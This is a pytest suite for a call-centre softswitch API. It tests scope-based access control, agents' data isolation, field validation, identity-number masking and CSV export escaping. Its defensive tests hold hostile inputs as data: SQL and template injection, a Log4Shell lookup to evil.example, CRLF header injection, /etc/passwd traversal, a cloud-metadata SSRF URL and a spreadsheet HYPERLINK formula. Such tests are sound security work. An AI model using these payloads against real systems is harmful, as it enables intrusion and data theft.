"""Every route: who may ask, what is answered, what is refused."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from softswitch.web.app import make_routes
from softswitch.web.errors import PROBLEM_TYPE
from softswitch.web.scopes import AGENT_SCOPES, SCOPES
from tests.web.line import Line, line
from tests.web.services import CALL

ANY = "*"
CUSTOMER: dict[str, Any] = {"name": "Jan Kowalski", "numbers": ["600 100 300"], "vip": True}
IF_MATCH = {"If-Match": '"v1"'}

# method, path, body, needed scopes, answer, further header fields
ROUTES: list[tuple[str, str, Any, str, int, dict[str, str]]] = [
    ("GET", "/v1/customers", None, "customers:read", 200, {}),
    ("POST", "/v1/customers/search", {"text": "nowak"}, "customers:read", 200, {}),
    ("GET", "/v1/customers.csv", None, "customers:read customers:control", 200, {}),
    ("POST", "/v1/customers", CUSTOMER, "customers:write", 201, {}),
    ("GET", "/v1/customers/c1", None, "customers:read", 200, {}),
    ("PATCH", "/v1/customers/c1", {"vip": True}, "customers:write", 200, IF_MATCH),
    ("GET", "/v1/customers/c1/contacts", None, "customers:read", 200, {}),
    ("GET", "/v1/customers/c1/export", None, "customers:read customers:control", 200, {}),
    ("DELETE", "/v1/customers/c1", None, "customers:read customers:control", 204, {}),
    ("GET", "/v1/tickets?status=open", None, "tickets:read", 200, {}),
    ("POST", "/v1/tickets", {"title": "Parcel", "queue": "sales"}, "tickets:write", 201, {}),
    ("GET", "/v1/tickets/t1", None, "tickets:read", 200, {}),
    ("PATCH", "/v1/tickets/t1", {"status": "closed"}, "tickets:write", 200, IF_MATCH),
    ("GET", "/v1/orders?shop=main", None, "orders:read", 200, {}),
    ("GET", "/v1/orders/last?phone=600100200&shop=main", None, "orders:read", 200, {}),
    ("GET", "/v1/orders/main/42", None, "orders:read", 200, {}),
    ("PUT", "/v1/orders/main/43", {"status": "new", "at": "2026-03-01T12:00:00Z"}, "orders:write", 200, {}),
    ("GET", "/v1/schedules", None, "schedules:read", 200, {}),
    ("GET", "/v1/schedules/office", None, "schedules:read", 200, {}),
    ("GET", "/v1/schedules/office/days", None, "schedules:read", 200, {}),
    ("PUT", "/v1/schedules/switch", {"switch": "outage", "note": "no power"}, "schedules:control", 200, {}),
    ("DELETE", "/v1/schedules/switch", None, "schedules:control", 200, {}),
    ("PUT", "/v1/schedules/office/switch", {"switch": "night"}, "schedules:control", 200, {}),
    ("DELETE", "/v1/schedules/office/switch", None, "schedules:control", 200, {}),
    ("GET", "/v1/calls?since=2026-01-01T00:00:00Z", None, "calls:read", 200, {}),
    ("GET", "/v1/calls.csv", None, "calls:read", 200, {}),
    ("GET", f"/v1/calls/{CALL}", None, "calls:read", 200, {}),
    ("GET", "/v1/live-calls", None, "live-calls:read", 200, {}),
    ("POST", "/v1/live-calls", {"account": "1001", "number": "1002"}, "live-calls:control", 201, {}),
    ("GET", f"/v1/live-calls/{CALL}", None, "live-calls:read", 200, {}),
    ("DELETE", f"/v1/live-calls/{CALL}", None, "live-calls:control", 204, {}),
    ("POST", f"/v1/live-calls/{CALL}/transfer", {"number": "1002"}, "live-calls:control", 202, {}),
    (
        "POST",
        f"/v1/live-calls/{CALL}/supervision",
        {"by": "1003", "mode": "listen"},
        "live-calls:control",
        200,
        {},
    ),
    ("GET", "/v1/queues", None, "queues:read", 200, {}),
    ("GET", "/v1/queues/sales", None, "queues:read", 200, {}),
    ("GET", "/v1/agents", None, "agents:read", 200, {}),
    ("GET", "/v1/agents/1001", None, "agents:read", 200, {}),
    ("POST", "/v1/agents/1001/act", {"act": "pause", "reason": "lunch"}, "agents:control", 200, {}),
    ("GET", "/v1/ratings?agent=1001", None, "ratings:read", 200, {}),
    ("GET", "/v1/ratings/figures?queue=sales", None, "ratings:read", 200, {}),
    ("GET", "/v1/recordings?queue=sales", None, "recordings:read", 200, {}),
    ("GET", "/v1/recordings/r1", None, "recordings:read", 200, {}),
    ("GET", "/v1/recordings/r1/sound", None, "recordings:read", 200, {}),
    ("PUT", "/v1/recordings/r1/hold", {"reason": "complaint"}, "recordings:write", 200, {}),
    ("DELETE", "/v1/recordings/r1/hold", None, "recordings:write", 200, {}),
    ("DELETE", "/v1/recordings/r1", None, "recordings:control", 204, {}),
    ("GET", "/v1/voicemail", None, "voicemail:read", 200, {}),
    ("GET", "/v1/voicemail/1001/messages", None, "voicemail:read", 200, {}),
    ("GET", "/v1/voicemail-messages/v1", None, "voicemail:read", 200, {}),
    ("GET", "/v1/voicemail-messages/v1/sound", None, "voicemail:read", 200, {}),
    ("PATCH", "/v1/voicemail-messages/v1", {"heard": True}, "voicemail:write", 200, {}),
    ("DELETE", "/v1/voicemail-messages/v1", None, "voicemail:control", 204, {}),
    ("GET", "/v1/callbacks", None, "voicemail:read", 200, {}),
    ("PUT", "/v1/callbacks/b1/done", None, "voicemail:write", 200, {}),
    ("POST", "/v1/messages", {"number": "600100200", "text": "Hi"}, "messages:write", 202, {}),
    ("GET", f"/v1/messages?call={CALL}", None, "messages:read", 200, {}),
    ("GET", "/v1/messages/templates", None, "messages:read", 200, {}),
    ("GET", "/v1/messages/m1", None, "messages:read", 200, {}),
    ("GET", "/v1/outbox", None, "outbox:read", 200, {}),
    ("GET", "/v1/outbox/delivery?key=k:1", None, "outbox:read", 200, {}),
    ("POST", "/v1/outbox/delivery/retry?key=k:1", None, "outbox:control", 200, {}),
    ("POST", "/v1/outbox/delivery/give-up?key=k:1", None, "outbox:control", 200, {}),
    ("POST", "/v1/events/tickets", None, "events:read", 201, {}),
    ("GET", "/v1/audit", None, "audit:read", 200, {}),
    ("GET", "/v1/me", None, ANY, 200, {}),
    ("GET", "/openapi.json", None, ANY, 200, {}),
    ("GET", "/docs", None, ANY, 200, {}),
]
NAMES = [f"{method} {path}" for method, path, *_ in ROUTES]
ELSEWHERE = {("get", "/v1/events"), ("post", "/v1/providers/{provider}")}
"""Routes whose tests are of another kind: test_events, and below."""


def matches(pattern: str, path: str) -> bool:
    """Tell whether a path is one of a pattern's."""
    wanted, given = pattern.split("/"), path.partition("?")[0].split("/")
    return len(wanted) == len(given) and all(
        one == other or one.startswith("{") for one, other in zip(wanted, given, strict=True)
    )


def test_the_table_names_every_route() -> None:
    described = {
        (method, path) for path, some in make_routes().openapi()["paths"].items() for method in some
    } - ELSEWHERE
    missing = [
        (method, path)
        for method, path in described
        if not any(one[0].lower() == method and matches(path, one[1]) for one in ROUTES)
    ]
    assert not missing


def test_every_route_says_which_scope_it_needs() -> None:
    paths = make_routes().openapi()["paths"]
    for method, path, _, scopes, _, _ in ROUTES:
        if scopes == ANY:
            continue
        found = [some.get(method.lower()) for pattern, some in paths.items() if matches(pattern, path)]
        exact = [one for one in found if one and one["security"][0]["token"] == scopes.split()]
        assert exact, (method, path)


SOUND = b"RIFF" + bytes(range(200))


@pytest.fixture
def sound(tmp_path: Path) -> Path:
    file = tmp_path / "r1.wav"
    file.write_bytes(SOUND)
    return file


@pytest.mark.parametrize(("method", "path", "body", "scopes", "status", "fields"), ROUTES, ids=NAMES)
async def test_a_token_with_exactly_this_scope_gets_an_answer(
    here: Line,
    sound: Path,
    method: str,
    path: str,
    body: Any,
    scopes: str,
    status: int,
    fields: dict[str, str],
) -> None:
    client = await here.client(*(("queues:read",) if scopes == ANY else scopes.split()))
    answer = await client.request(method, path, json=body, headers=fields)
    assert answer.status_code == status, answer.text
    assert answer.headers["cache-control"] == "no-store"
    (entry,) = here.audit.entries
    assert (entry.method, entry.status, entry.path) == (method, status, path.partition("?")[0])


@pytest.mark.parametrize(("method", "path", "body", "scopes", "status", "fields"), ROUTES, ids=NAMES)
async def test_without_a_token_nothing_is_told(
    here: Line,
    sound: Path,
    method: str,
    path: str,
    body: Any,
    scopes: str,
    status: int,
    fields: dict[str, str],
) -> None:
    answer = await here.with_token("").request(method, path, json=body, headers=fields)
    assert answer.status_code == 401
    assert answer.headers["content-type"] == PROBLEM_TYPE
    assert answer.json()["code"] == "no_token"
    assert answer.headers["www-authenticate"].startswith("Bearer")
    assert here.control.done == []


@pytest.mark.parametrize(("method", "path", "body", "scopes", "status", "fields"), ROUTES, ids=NAMES)
async def test_every_other_scope_is_not_enough(
    here: Line,
    sound: Path,
    method: str,
    path: str,
    body: Any,
    scopes: str,
    status: int,
    fields: dict[str, str],
) -> None:
    if scopes == ANY:
        return
    for needed in scopes.split():
        client = await here.client(*(scope for scope in SCOPES if scope != needed))
        answer = await client.request(method, path, json=body, headers=fields)
        assert answer.status_code == 403, needed
        assert answer.json()["detail"] == f"It needs the scope {needed}."
    assert here.control.done == []


@pytest.mark.parametrize(("method", "path", "body", "scopes", "status", "fields"), ROUTES, ids=NAMES)
async def test_an_agents_token_reaches_no_more_than_it_may(
    here: Line,
    sound: Path,
    method: str,
    path: str,
    body: Any,
    scopes: str,
    status: int,
    fields: dict[str, str],
) -> None:
    client = await here.client(*AGENT_SCOPES, agent="1001")
    answer = await client.request(method, path, json=body, headers=fields)
    allowed = scopes == ANY or set(scopes.split()) <= AGENT_SCOPES
    assert (answer.status_code != 403) is (allowed and "supervision" not in path and "calls.csv" not in path)


async def test_an_old_agents_token_with_scopes_of_before_is_held_to_those_of_now(here: Line) -> None:
    text = await here.token("calls:read", agent="1001")
    kept = here.kept_token(text)
    here.tokens.kept[kept.id] = replace(kept, scopes=("customers:read",))
    assert (await here.with_token(text).get("/v1/customers")).status_code == 403


# Strangers and unknown paths


@pytest.mark.parametrize(
    "path", ["/", "/v2/customers", "/v1/nothing", "/v1/customers/c1/../../../etc/passwd"]
)
async def test_unknown_paths(here: Line, path: str) -> None:
    assert (await here.with_token("").get(path)).status_code == 401
    answer = await (await here.client()).get(path)
    assert answer.status_code == 404
    assert answer.headers["content-type"] == PROBLEM_TYPE


async def test_another_method(here: Line) -> None:
    answer = await (await here.client()).put("/v1/calls")
    assert answer.status_code == 405
    assert answer.headers["allow"] == "GET"
    assert answer.json()["code"] == "method"


async def test_a_part_that_the_line_does_not_have(tmp_path: Path) -> None:
    async with line(tmp_path, change=lambda services: replace(services, customers=None)) as here:
        answer = await (await here.client()).get("/v1/customers")
        assert answer.status_code == 404
        assert answer.json()["code"] == "not_configured"


# Agents' own


async def test_an_agent_sees_own_calls_alone(here: Line) -> None:
    client = await here.client("calls:read", "live-calls:read", "agents:read", agent="1001")
    calls = (await client.get("/v1/calls")).json()["items"]
    assert [one["id"] for one in calls] == [CALL, "01WITHHELD"]
    assert (await client.get("/v1/calls/01OTHER")).status_code == 404
    assert (await client.get("/v1/calls", params={"party": "1002"})).status_code == 403
    assert [one["id"] for one in (await client.get("/v1/live-calls")).json()] == [CALL]
    assert (await client.get("/v1/live-calls/01OTHER")).status_code == 404
    assert [one["agent"] for one in (await client.get("/v1/agents")).json()] == ["1001"]
    assert (await client.get("/v1/agents/1002")).status_code == 404


async def test_an_agent_controls_own_calls_alone(here: Line) -> None:
    client = await here.client("live-calls:control", "agents:control", agent="1001")
    assert (await client.delete("/v1/live-calls/01OTHER")).status_code == 404
    other = {"account": "1002", "number": "1003"}
    assert (await client.post("/v1/live-calls", json=other)).status_code == 403
    assert (await client.post("/v1/live-calls/01OTHER/transfer", json={"number": "1"})).status_code == 404
    assert (await client.post("/v1/agents/1002/act", json={"act": "pause"})).status_code == 404
    by_another = {"number": "1003", "by": "1002"}
    assert (await client.post(f"/v1/live-calls/{CALL}/transfer", json=by_another)).status_code == 403
    assert here.control.done == []
    assert (await client.post(f"/v1/live-calls/{CALL}/transfer", json={"number": "1003"})).status_code == 202
    assert here.control.done == [("transfer", CALL, "1003", "1001")]


async def test_a_hidden_number_is_shown_to_no_agent_who_can_call_it_back_all_the_same(here: Line) -> None:
    here.numbers.shown[CALL] = "555"
    client = await here.client(*AGENT_SCOPES, agent="1001")
    for path in ("/v1/calls", f"/v1/calls/{CALL}", "/v1/live-calls", f"/v1/live-calls/{CALL}", "/v1/agents"):
        answer = await client.get(path)
        assert answer.status_code == 200
        assert "600100200" not in answer.text
        assert "Anna" not in answer.text
    assert (await client.post("/v1/live-calls", json={"account": "1001", "call": CALL})).status_code == 201
    assert here.control.done == [("begin", "1001", "+48600100200")]
    boss = await here.client("calls:read")
    assert "600100200" in (await boss.get(f"/v1/calls/{CALL}")).text


async def test_an_agent_writes_to_own_callers_alone(here: Line) -> None:
    client = await here.client("messages:write", "messages:read", agent="1001")
    assert (await client.post("/v1/messages", json={"number": "1", "text": "x"})).status_code == 422
    assert (await client.post("/v1/messages", json={"call": "01OTHER", "text": "x"})).status_code == 404
    sent = await client.post("/v1/messages", json={"call": CALL, "text": "Soon there"})
    assert sent.status_code == 202
    assert here.services.messages is not None
    assert here.services.messages.sent == [("+48600100200", "Soon there")]
    assert (await client.get(f"/v1/messages/{sent.json()['id']}")).status_code == 200
    listed = (await client.get("/v1/messages", params={"call": CALL})).json()
    assert [one["id"] for one in listed] == ["m1", sent.json()["id"]]
    assert (await client.get("/v1/messages", params={"call": "01OTHER"})).status_code == 404
    both = {"call": CALL, "text": "Soon there", "template": "manual"}
    for unclear in (both, {"call": CALL}):
        assert (await client.post("/v1/messages", json=unclear)).status_code == 422
    mobile = {"number": "602345678", "template": "manual"}
    # Who called from a landline names a mobile; it stands with the call all the same.
    named = await client.post("/v1/messages", json={"call": CALL, **mobile})
    assert (named.status_code, named.json()["call"]) == (202, CALL)
    assert here.services.messages.sent.pop() == ("602345678", "<manual>")
    assert (await client.post("/v1/messages", json={"call": "01OTHER", **mobile})).status_code == 404
    fields = {"Idempotency-Key": "one"}
    once = {"call": CALL, "template": "manual"}
    answers = [await client.post("/v1/messages", json=once, headers=fields) for _ in range(2)]
    assert answers[0].json() == answers[1].json()
    assert here.services.messages.sent[1:] == [("+48600100200", "<manual>")]


async def test_a_message_to_nobody_is_refused_in_words_of_messages(here: Line) -> None:
    client = await here.client("messages:write")
    told = (await client.post("/v1/messages", json={"text": "x"})).json()
    assert told["detail"] == "Whom to write to is not clear."
    assert told["errors"] == [{"where": "body.number", "reason": "give a number, a call, or both"}]


async def test_nobody_who_withholds_a_number_is_called_back(here: Line) -> None:
    client = await here.client()
    answer = await client.post("/v1/live-calls", json={"account": "1001", "call": "01WITHHELD"})
    assert answer.status_code == 422
    both = {"account": "1001", "call": CALL, "number": "1002"}
    assert (await client.post("/v1/live-calls", json=both)).status_code == 422
    assert (await client.post("/v1/live-calls", json={"account": "1001"})).status_code == 422


# Changes


async def test_a_change_names_the_state_it_is_about(here: Line) -> None:
    client = await here.client()
    read = await client.get("/v1/customers/c1")
    assert read.headers["etag"] == '"v1"'
    assert (await client.patch("/v1/customers/c1", json={"vip": True})).status_code == 428
    changed = await client.patch("/v1/customers/c1", json={"vip": True}, headers=IF_MATCH)
    assert changed.headers["etag"] == '"v2"'
    assert (await client.patch("/v1/customers/c1", json={"vip": False}, headers=IF_MATCH)).status_code == 412
    anyhow = await client.patch("/v1/customers/c1", json={"vip": False}, headers={"If-Match": "*"})
    assert anyhow.json()["vip"] is False


async def test_faults_are_named_field_by_field_and_repeat_nothing(here: Line) -> None:
    client = await here.client()
    secret = "44051401358-canary"
    answer = await client.post("/v1/customers", json={"name": "", "pesel": secret, "colour": "red"})
    assert answer.status_code == 422
    wheres = {one["where"] for one in answer.json()["errors"]}
    assert {"body.name", "body.pesel", "body.colour"} <= wheres
    assert "canary" not in answer.text


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (b"{", "application/json"),
        (b'{"name":', "application/json"),
        (b"name=x", "text/plain"),
        (b"\xff", "a/b"),
    ],
)
async def test_what_is_no_json(here: Line, body: bytes, kind: str) -> None:
    client = await here.client()
    answer = await client.post("/v1/customers", content=body, headers={"Content-Type": kind})
    assert answer.status_code in (400, 422)
    assert answer.headers["content-type"] == PROBLEM_TYPE


# Masking, exports, sounds


async def test_identity_numbers_are_masked_unless_the_token_goes_so_far(here: Line) -> None:
    reader, controller = await here.client("customers:read"), await here.client("customers:*")
    assert (await reader.get("/v1/customers/c1")).json()["pesel"] == "*******1359"
    assert (await controller.get("/v1/customers/c1")).json()["pesel"] == "44051401359"


async def test_an_export_holds_no_formula(here: Line) -> None:
    client = await here.client()
    evil = {"name": '=HYPERLINK("http://evil.example","x")', "numbers": ["+48600100300"]}
    assert (await client.post("/v1/customers", json=evil)).status_code == 201
    answer = await client.get("/v1/customers.csv")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert rows[2][2] == "'" + evil["name"]
    assert rows[2][3] == "+48600100300"
    calls = await client.get("/v1/calls.csv")
    assert calls.headers["content-type"].startswith("text/csv")
    assert len(list(csv.reader(io.StringIO(calls.content.decode("utf-8-sig"))))) == 4


async def test_a_sound_is_sent_in_ranges(here: Line, sound: Path) -> None:
    client = await here.client()
    whole = await client.get("/v1/recordings/r1/sound")
    assert whole.content == SOUND
    assert whole.headers["content-type"] == "audio/wav"
    part = await client.get("/v1/recordings/r1/sound", headers={"Range": "bytes=0-3"})
    assert (part.status_code, part.content) == (206, b"RIFF")


async def test_no_sound_from_outside_its_folder(here: Line, tmp_path: Path, sound: Path) -> None:
    outside = tmp_path.parent / f"{tmp_path.name}-secret.wav"
    outside.write_text("secret")
    recordings = here.services.recordings
    assert recordings is not None
    client = await here.client()
    for place in (tmp_path / ".." / outside.name, outside, tmp_path / "gone.wav", tmp_path):
        recordings.file = place  # type: ignore[attr-defined]
        assert (await client.get("/v1/recordings/r1/sound")).status_code == 404
    link = tmp_path / "link.wav"
    link.symlink_to(outside)
    recordings.file = link  # type: ignore[attr-defined]
    assert (await client.get("/v1/recordings/r1/sound")).status_code == 404


async def test_a_held_recording_is_not_erased(here: Line) -> None:
    client = await here.client()
    assert (await client.put("/v1/recordings/r1/hold", json={"reason": "court"})).json()["on_hold"] == "court"
    refused = await client.delete("/v1/recordings/r1")
    assert (refused.status_code, refused.json()["code"]) == (409, "conflict")
    await client.delete("/v1/recordings/r1/hold")
    assert (await client.delete("/v1/recordings/r1")).status_code == 204


async def test_pages(here: Line) -> None:
    client = await here.client()
    seen, cursor = [], ""
    while True:
        page = (await client.get("/v1/customers/c1/contacts", params={"limit": 7, "cursor": cursor})).json()
        seen += [one["id"] for one in page["items"]]
        if not (cursor := page["next"]):
            break
    assert seen == [f"k{number}" for number in range(30)]
    assert (await client.get("/v1/customers/c1/contacts", params={"limit": 101})).status_code == 422
    assert (await client.get("/v1/customers/c1/contacts", params={"cursor": "gA"})).status_code == 422


INJECTIONS = (
    "' OR 1=1 --",
    '"; DROP TABLE tokens; --',
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "x\r\nSet-Cookie: a=b",
    "../../../etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "\x00",
    "http://169.254.169.254/latest/meta-data/",
)


@pytest.mark.parametrize("evil", INJECTIONS)
async def test_what_is_given_stays_what_it_is(here: Line, evil: str) -> None:
    client = await here.client()
    for path in ("/v1/customers/{}", "/v1/recordings/{}/sound", "/v1/calls/{}", "/v1/orders/main/{}"):
        answer = await client.get(path.format(quote(evil, safe="")))
        assert answer.status_code in (404, 422)
        assert "set-cookie" not in answer.headers
    listed = await client.get("/v1/customers", params={"text": evil})
    assert listed.status_code in (200, 422)
    if listed.status_code == 200:
        assert listed.json()["items"] == []
    stored = await client.post("/v1/customers", json={"name": evil, "notes": evil})
    if stored.status_code == 201:
        assert stored.json()["name"] == evil
        assert "49" not in stored.json()["notes"].replace(evil, "")


# Providers of payments


async def test_a_provider_proves_itself_by_its_signature(here: Line) -> None:
    stranger = here.with_token("")
    assert (await stranger.post("/v1/providers/sandbox", content=b"{}")).status_code == 401
    right = {"X-Signature": "right"}
    assert (await stranger.post("/v1/providers/sandbox", content=b"{}", headers=right)).status_code == 204
    assert (await stranger.post("/v1/providers/other", content=b"{}", headers=right)).status_code == 404
    assert here.services.providers is not None
    assert here.services.providers.taken == [b"{}"]  # type: ignore[attr-defined]


async def test_the_page_of_words_needs_nothing_from_elsewhere(here: Line) -> None:
    page = (await (await here.client("queues:read")).get("/docs")).text
    assert "/v1/live-calls/{call}/transfer" in page
    assert "<script" not in page
    assert "http://" not in page.replace("http://crm", "")
